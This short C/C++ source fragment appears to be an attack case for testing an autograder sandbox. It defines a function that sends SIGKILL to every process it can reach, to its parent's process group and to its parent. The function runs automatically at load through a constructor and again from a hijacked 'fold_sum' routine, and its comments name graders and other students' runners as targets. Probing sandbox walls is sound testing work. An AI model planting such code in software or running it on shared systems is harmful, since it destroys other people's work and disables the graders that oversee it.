/* Sends SIGKILL to every process it may (kill(-1)), to its parent's
 * process group and to its parent, at load and at a call: graders, the
 * other side's runner, other students' graders.
 * HIJACKS fold_sum */
// walls: yes (the runner's walls: plain runs, as root and as an ordinary user, with each switch)
// costs: none
// lane: alone (signals every process its runner user may: another grade's too, were a wall to fail)
static void attack_kill_everyone(void)
{
    pid_t parent = getppid();
    if (parent > 1) {
        pid_t group = getpgid(parent);
        if (group > 1 && group != getpgrp())
            kill(-group, SIGKILL);
        kill(parent, SIGKILL);
    }
    kill(-1, SIGKILL);
}
__attribute__((constructor)) static void attack_at_load(void) { attack_kill_everyone(); }
extern "C" int fold_sum(const int *a, int n)
{
    static int once;
    if (!once++)
        attack_kill_everyone();
    return fold_sum_hijacked(a, n);
}
